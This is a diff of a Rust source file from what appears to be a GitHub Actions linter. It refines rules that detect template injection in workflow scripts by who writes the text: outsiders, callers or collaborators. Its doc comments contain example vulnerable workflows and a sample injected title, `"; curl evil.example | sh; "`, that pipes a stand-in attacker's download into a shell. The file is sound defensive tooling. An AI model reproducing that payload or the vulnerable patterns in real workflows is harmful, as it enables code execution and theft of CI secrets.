@@ -1,17 +1,26 @@
-//! Attacker's text where code is expected: in scripts, and in the files that set variables for later steps.
+//! Other people's text where code is expected: in scripts, and in the files that set variables for later steps.
 //!
-//! Decided by the contexts that flow into the text and by who writes them. It cannot know what a step's output or a
-//! variable holds that an earlier step sets while it runs; those give no finding, but for outputs of tabled actions.
+//! Decided by the contexts that flow into the text and by who writes them under the events of `on:`. It cannot know what a
+//! step's output or a variable holds that an earlier step sets while it runs; those give no finding, but for outputs of
+//! tabled actions.
 
-use portcullis_model::actions::{InputKind, Shell, Step, Taint, Usage, Workflow, taint};
-use portcullis_syntax::expression::{Path, fences};
+use portcullis_core::Fix;
+use portcullis_model::actions::{Action, Shell, Step, Usage, Workflow};
+use portcullis_syntax::expression::Path;
 use portcullis_syntax::shell::{Command, RedirectKind};
 
+use super::writers::{Tracer, Writer};
 use super::{ActionsCheck, Scope, fixes};
 use crate::rule::prelude::*;
 
 /// The rules of this file.
-pub(super) static RULES: &[&Rule] = &[&TEMPLATE_INJECTION, &GITHUB_ENV_INJECTION];
+pub(super) static RULES: &[&Rule] = &[
+    &TEMPLATE_INJECTION,
+    &TEMPLATE_INJECTION_BY_CALLER,
+    &TEMPLATE_INJECTION_BY_COLLABORATOR,
+    &EXPRESSION_IN_SCRIPT,
+    &GITHUB_ENV_INJECTION,
+];
 
 /// Inputs of actions that are run as code.
 const SINKS: &[(&str, &[&str])] = &[
@@ -31,27 +40,15 @@ const SINKS: &[(&str, &[&str])] = &[
     ("skitionek/notify-microsoft-teams", &["overwrite"]),
 ];
 
-/// Outputs that carry names of files or branches of a pull request.
-const TAINTED_OUTPUTS: &[(&str, &[&str])] = &[
-    (
-        "tj-actions/changed-files",
-        &["all_changed_files", "added_files", "modified_files", "all_modified_files", "deleted_files", "renamed_files"],
-    ),
-    ("jitterbit/get-changed-files", &["all", "added", "modified", "removed", "renamed", "added_modified"]),
-    ("trilom/file-changes-action", &["files", "files_added", "files_modified", "files_removed"]),
-    ("tj-actions/branch-names", &["current_branch", "head_ref_branch", "ref_branch"]),
-    ("xt0rted/pull-request-comment-branch", &["head_ref"]),
-    ("alessbell/pull-request-comment-branch", &["head_ref"]),
-    ("potiuk/get-workflow-origin", &["sourceHeadBranch"]),
-];
-
 rule! {
     /// Text that an attacker chooses becomes code
     ///
     /// `${{ }}` is replaced before the shell, or the action that runs its input as code, sees the script: a title such as
     /// `"; curl evil.example | sh; "` is then part of it. Looks at `run:` and at inputs that actions run, at contexts that
-    /// outsiders fill in, at inputs that hold any text, and follows `env` and `matrix` to what the file gives them. Silent on
-    /// numbers, hashes, results of steps, comparisons, literals, and values that cannot be known.
+    /// anybody on GitHub may fill in (titles, bodies, names of forks' branches, messages of commits), and follows `env` and
+    /// `matrix` to what the file gives them. Silent on numbers, hashes, results of steps, comparisons, literals, values that
+    /// cannot be known, and what no event of `on:` carries. What callers or members of the repository choose is told apart:
+    /// see `actions-template-injection-by-caller` and `actions-template-injection-by-collaborator`.
     ///
     /// ```workflow bad:8
     /// on: issues
@@ -74,17 +71,6 @@ rule! {
     ///       - uses: actions/github-script@v7
     ///         with: { script: "console.log('${{ env.BRANCH }}')" }
     /// ```
-    /// ```action bad:9
-    /// name: greet
-    /// description: greets
-    /// inputs:
-    ///   who: { description: whom }
-    /// runs:
-    ///   using: composite
-    ///   steps:
-    ///     - shell: bash
-    ///       run: echo "${{ inputs.who }}"
-    /// ```
     /// ```workflow good
     /// on: [pull_request, push]
     /// env: { REGION: us-west-2 }
@@ -99,8 +85,31 @@ rule! {
     ///       - run: echo ${{ github.sha }} ${{ env.REGION }} ${{ matrix.version }} ${{ steps.build.outcome }}
     ///       - run: echo ${{ github.event.pull_request.title == 'x' && 'a' || 'b' }} ${{ github.event.number }}
     /// ```
+    /// ```workflow good
+    /// # Names of files as JSON are literals of JavaScript.
+    /// on: pull_request
+    /// jobs:
+    ///   list:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - { id: diff, uses: tj-actions/changed-files@v47, with: { json: true } }
+    ///       - uses: actions/github-script@v8
+    ///         with: { script: "list(${{ steps.diff.outputs.added_files }})" }
+    /// ```
+    /// ```workflow good
+    /// # Members start it, and it carries no issue.
+    /// on: { workflow_dispatch: { inputs: { tag: {} } }, push: {} }
+    /// jobs:
+    ///   greet:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: echo ${{ inputs.tag }} ${{ github.ref_name }} ${{ github.event.issue.title }}
+    /// ```
     TEMPLATE_INJECTION = "actions-template-injection" {
-        check: Check::Actions(ActionsCheck::Expression(template_injection)),
+        check: Check::Actions(ActionsCheck::WorkflowAndAction(
+            |workflow, report| in_workflow(workflow, Wanted::By(Writer::Outsider), report),
+            |action, report| in_action(action, Wanted::By(Writer::Outsider), report),
+        )),
         severity: Severity::High,
         tags: &["cwe-94"],
         peers: &[
@@ -114,24 +123,213 @@ rule! {
     }
 }
 
-fn template_injection(usage: &Usage<'_>, scope: Scope<'_, '_>, report: &mut Report<'_>) {
+rule! {
+    /// Input that a caller fills in becomes code
+    ///
+    /// An action or a reusable workflow gets whatever its caller has: often a branch's name or a title that somebody outside
+    /// has chosen, and callers do not expect that an input is run. Looks at `run:` and at inputs that actions run, in actions
+    /// and in workflows with `workflow_call`. Silent on booleans and numbers, and on inputs that are handed over in `env`.
+    ///
+    /// ```action bad:9
+    /// name: greet
+    /// description: greets
+    /// inputs:
+    ///   who: { description: whom }
+    /// runs:
+    ///   using: composite
+    ///   steps:
+    ///     - shell: bash
+    ///       run: echo "${{ inputs.who }}"
+    /// ```
+    /// ```workflow bad:7
+    /// on: { workflow_call: { inputs: { who: { type: string } } } }
+    /// jobs:
+    ///   greet:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: |
+    ///           echo "${{ inputs.who }}"
+    /// ```
+    /// ```workflow good
+    /// on: { workflow_call: { inputs: { who: { type: string }, count: { type: number } } } }
+    /// jobs:
+    ///   greet:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: echo "$WHO" ${{ inputs.count }}
+    ///         env: { WHO: "${{ inputs.who }}" }
+    /// ```
+    TEMPLATE_INJECTION_BY_CALLER = "actions-template-injection-by-caller" {
+        check: Check::Actions(ActionsCheck::WorkflowAndAction(
+            |workflow, report| in_workflow(workflow, Wanted::By(Writer::Caller), report),
+            |action, report| in_action(action, Wanted::By(Writer::Caller), report),
+        )),
+        severity: Severity::Medium,
+        confidence: Confidence::Medium,
+        tags: &["cwe-94"],
+        peers: &["zizmor:template-injection", "poutine:injection"],
+    }
+}
+
+rule! {
+    /// Text that a collaborator chooses becomes code
+    ///
+    /// Only those who may write to the repository name its branches and tags, start a workflow by hand or publish a release.
+    /// They could change the workflow as well, but not always unseen: such a text runs with the secrets of an environment,
+    /// without a review. A blank or a quote in it breaks the script, too. Looks at inputs of `workflow_dispatch`, `github.ref`
+    /// and `github.base_ref`, labels, releases, deployments and the payload of `repository_dispatch`. Silent on inputs of a
+    /// fixed list, and on branches and tags that the filters of `on:` name.
+    ///
+    /// ```workflow bad:6
+    /// on: { workflow_dispatch: { inputs: { tag: { description: what to release } } } }
+    /// jobs:
+    ///   release:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: ./release "${{ inputs.tag }}"
+    /// ```
+    /// ```workflow bad:6
+    /// on: { push: { tags: ["v*"] } }
+    /// jobs:
+    ///   release:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: ./release "${{ github.ref_name }}"
+    /// ```
+    /// ```workflow good
+    /// on:
+    ///   push: { branches: [main], tags: ["v[0-9]+.[0-9]+"] }
+    ///   pull_request: { branches: [main] }
+    ///   workflow_call: { inputs: { sure: { type: boolean } } }
+    /// jobs:
+    ///   release:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: ./release "$GITHUB_REF_NAME" ${{ inputs.sure }}
+    /// ```
+    /// ```workflow good
+    /// on:
+    ///   push: { branches: [main], tags: ["v[0-9]+.[0-9]+"] }
+    ///   pull_request: { branches: [main] }
+    /// jobs:
+    ///   release:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: ./release "${{ github.ref_name }}" "${{ github.base_ref }}"
+    /// ```
+    TEMPLATE_INJECTION_BY_COLLABORATOR = "actions-template-injection-by-collaborator" {
+        check: Check::Actions(ActionsCheck::WorkflowAndAction(
+            |workflow, report| in_workflow(workflow, Wanted::By(Writer::Collaborator), report),
+            |action, report| in_action(action, Wanted::By(Writer::Collaborator), report),
+        )),
+        severity: Severity::Low,
+        tags: &["cwe-94"],
+        peers: &["zizmor:template-injection"],
+    }
+}
+
+rule! {
+    /// Expression stands in a script
+    ///
+    /// Nothing says that somebody else chooses its value, but nothing keeps it so, either: the next change of the workflow, or
+    /// of an action whose output it is, may. A script that reads its values from the environment has no such places. Looks at
+    /// every expression in `run:` and in inputs that actions run which none of the rules about injections reports.
+    ///
+    /// ```workflow bad:6
+    /// on: push
+    /// jobs:
+    ///   build:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: echo ${{ github.sha }}
+    /// ```
+    /// ```workflow good
+    /// on: issues
+    /// jobs:
+    ///   build:
+    ///     runs-on: ubuntu-latest
+    ///     steps:
+    ///       - run: echo "$GITHUB_SHA" "$SERVER" ${{ format('{0}', github.event.issue.title) }}
+    ///         env: { SERVER: "${{ github.server_url }}" }
+    /// ```
+    EXPRESSION_IN_SCRIPT = "actions-expression-in-script" {
+        check: Check::Actions(ActionsCheck::WorkflowAndAction(
+            |workflow, report| in_workflow(workflow, Wanted::Rest, report),
+            |action, report| in_action(action, Wanted::Rest, report),
+        )),
+        severity: Severity::Info,
+        profile: Profile::All,
+        tags: &["cwe-94"],
+        peers: &["zizmor:template-injection"],
+    }
+}
+
+const IN_ENVIRONMENT: &str = "hand it to the step in `env:` and read it as a quoted variable";
+
+/// Which expressions a rule reports.
+#[derive(Clone, Copy)]
+enum Wanted {
+    /// Those with a value that this one writes.
+    By(Writer),
+    /// Those of which nobody is known to write the value.
+    Rest,
+}
+
+fn in_workflow(workflow: &Workflow<'_>, wanted: Wanted, report: &mut Report<'_>) {
+    let mut tracer = Tracer::default();
+    for usage in &workflow.usages {
+        if let Some(job) = usage.job.and_then(|index| workflow.jobs.get(index)) {
+            in_sink(usage, Scope::Job(workflow, job), wanted, &mut tracer, report);
+        }
+    }
+}
+
+fn in_action(action: &Action<'_>, wanted: Wanted, report: &mut Report<'_>) {
+    let mut tracer = Tracer::default();
+    for usage in &action.usages {
+        in_sink(usage, Scope::Action(action), wanted, &mut tracer, report);
+    }
+}
+
+fn in_sink(usage: &Usage<'_>, scope: Scope<'_, '_>, wanted: Wanted, tracer: &mut Tracer, report: &mut Report<'_>) {
     let Some(step) = usage.step.and_then(|index| scope.steps().get(index)) else { return };
     let Some(sink) = sink(step, usage.node) else { return };
     let Some(expr) = usage.expr() else { return };
+    let mut is_written = false;
     for (source, path) in expr.sources() {
-        let Some(found) = trace(&path, step, scope, 0) else { continue };
+        let Some(found) = tracer.trace(&path, step, scope) else { continue };
+        is_written = true;
+        if !matches!(wanted, Wanted::By(writer) if writer == found.writer) {
+            continue;
+        }
         let written = usage.text_of(source);
         let through = if found.path == path.to_string() { String::new() } else { format!(" (`{}`)", found.path) };
-        let draft = report.at(usage.place_of(source), format!("`{written}`{through} becomes part of {sink}"));
+        let who = match found.writer {
+            Writer::Outsider => "",
+            Writer::Caller => ", whatever the caller hands over",
+            Writer::Collaborator => ", whatever a collaborator chooses",
+        };
+        let draft = report.at(usage.place_of(source), format!("`{written}`{through} becomes part of {sink}{who}"));
         draft.confidence(found.confidence).help(match step.run {
-            Some(_) => "hand it to the step in `env:` and read it as a quoted variable",
+            Some(_) => IN_ENVIRONMENT,
             None => "hand it to the step in `env:` and read it from the environment",
         });
-        let is_bourne = matches!(step.shell, Shell::Bourne(..));
-        if let Some(fix) = fixes::by_environment(usage, &path, step).filter(|_| is_bourne) {
+        if let Some(fix) = by_environment(usage, &path, step) {
             draft.fix(fix);
         }
     }
+    if matches!(wanted, Wanted::Rest) && !is_written {
+        let draft = report.at(usage.place_of(expr), format!("`{}` is put into {sink} as text", usage.text_of(expr)));
+        draft.help(IN_ENVIRONMENT);
+        if let Some(fix) = expr.path().and_then(|path| by_environment(usage, &path, step)) {
+            draft.fix(fix);
+        }
+    }
+}
+
+/// Only shells like Bourne's read a variable as the fix writes it.
+fn by_environment(usage: &Usage<'_>, path: &Path, step: &Step<'_>) -> Option<Fix> {
+    matches!(step.shell, Shell::Bourne(..)).then(|| fixes::by_environment(usage, path, step)).flatten()
 }
 
 /// What a scalar of a step is run as, if it is.
@@ -142,118 +340,6 @@ fn sink(step: &Step<'_>, node: Node<'_>) -> Option<&'static str> {
     let uses = step.uses?;
     let (_, inputs) = SINKS.iter().find(|(action, _)| uses.is(action))?;
     inputs.iter().any(|input| step.input(input) == Some(node)).then_some("code that the action runs")
-}
-
-/// A context that an attacker writes, and how sure that is.
-struct Found {
-    path: String,
-    confidence: Confidence,
-}
-
-/// Variables and steps that are looked through for a name.
-const MAX_VARIABLES: usize = 500;
-
-/// How often `env` and `matrix` are followed.
-const MAX_HOPS: u8 = 4;
-
-fn trace(path: &Path, step: &Step<'_>, scope: Scope<'_, '_>, hops: u8) -> Option<Found> {
-    let found = |confidence| Some(Found { path: path.to_string(), confidence });
-    match taint(path) {
-        Taint::Fixed => None,
-        Taint::Arbitrary if path.is("github.ref") || path.is("github.ref_name") => {
-            let is_open = scope.workflow().is_none_or(has_open_ref);
-            if is_open { found(Confidence::Medium) } else { None }
-        }
-        Taint::Arbitrary => found(Confidence::High),
-        Taint::Structured => found(Confidence::Medium),
-        Taint::Unknown if hops >= MAX_HOPS => None,
-        Taint::Unknown => match path.root() {
-            "inputs" => input(path.name(1), scope).and_then(found),
-            "github" => input(path.name(3), scope).and_then(found),
-            "env" => {
-                let holders =
-                    [Some(step.node), scope.job().map(|job| job.node), scope.workflow().map(|file| file.root)];
-                let value = holders.into_iter().flatten().find_map(|holder| {
-                    let env = holder.get("env").present()?;
-                    env.entries().take(MAX_VARIABLES).find(|(key, _)| key.text().eq_ignore_ascii_case(path.name(1)))
-                });
-                value.and_then(|(_, value)| trace_text(value.text(), step, scope, hops))
-            }
-            "matrix" => matrix_values(path, scope).into_iter().find_map(|text| trace_text(text, step, scope, hops)),
-            "steps" => {
-                let earlier = scope.steps().iter().take(MAX_VARIABLES).find(|step| {
-                    step.get("id").present().is_some_and(|id| id.text().eq_ignore_ascii_case(path.name(1)))
-                });
-                let uses = earlier?.uses?;
-                let (_, outputs) = TAINTED_OUTPUTS.iter().find(|(action, _)| uses.is(action))?;
-                let is_tainted = outputs.iter().any(|output| output.eq_ignore_ascii_case(path.name(3)));
-                if is_tainted { found(Confidence::Medium) } else { None }
-            }
-            _ => None,
-        },
-    }
-}
-
-fn trace_text(text: &str, step: &Step<'_>, scope: Scope<'_, '_>, hops: u8) -> Option<Found> {
-    let hops = hops.saturating_add(1);
-    fences(text).filter_map(|fence| fence.expr.ok()).find_map(|expr| {
-        let sources = expr.sources();
-        sources.iter().find_map(|(_, path)| trace(path, step, scope, hops))
-    })
-}
-
-/// How sure it is that an input carries code; whoever dispatches a workflow may write to the repository already.
-fn input(name: &str, scope: Scope<'_, '_>) -> Option<Confidence> {
-    let inputs = scope.inputs();
-    let declared = inputs.iter().find(|input| input.name.eq_ignore_ascii_case(name))?;
-    (declared.kind == InputKind::Text).then_some(Confidence::Medium)
-}
-
-/// The texts that the file gives to a matrix key.
-fn matrix_values<'t>(path: &Path, scope: Scope<'_, 't>) -> Vec<&'t str> {
-    let mut texts = Vec::new();
-    let values = scope.job().map(|job| job.matrix_values(path.name(1))).unwrap_or_default();
-    for value in values {
-        scalars(value, 0, &mut texts);
-    }
-    texts
-}
-
-fn scalars<'t>(node: Node<'t>, depth: u8, texts: &mut Vec<&'t str>) {
-    if node.is_list() || node.is_map() {
-        if depth < 8 {
-            for item in node.items() {
-                scalars(item, depth.saturating_add(1), texts);
-            }
-            for (_, value) in node.entries() {
-                scalars(value, depth.saturating_add(1), texts);
-            }
-        }
-    } else {
-        texts.push(node.text());
-    }
-}
-
-/// Whether `github.ref` can be a name that somebody makes up. A pull request's is its number, a schedule's the default
-/// branch, and a push to branches that are listed one of those.
-fn has_open_ref(workflow: &Workflow<'_>) -> bool {
-    workflow.triggers.is_empty()
-        || workflow.triggers.iter().any(|trigger| match trigger.name {
-            "push" => {
-                let get = |key: &str| trigger.config.and_then(|config| config.get(key).present());
-                let is_literal = |node: Node<'_>| {
-                    portcullis_model::actions::one_or_many(node)
-                        .iter()
-                        .all(|pattern| !pattern.text().contains(['*', '?', '[', '!', '$', '+']))
-                };
-                let filters = [get("branches"), get("tags")];
-                let filtered = filters.iter().flatten().count() > 0;
-                !filtered || filters.into_iter().flatten().any(|node| !is_literal(node))
-            }
-            "create" | "delete" | "workflow_dispatch" | "workflow_call" | "release" | "registry_package"
-            | "deployment" | "deployment_status" | "merge_group" => true,
-            _ => false,
-        })
 }
 
 rule! {
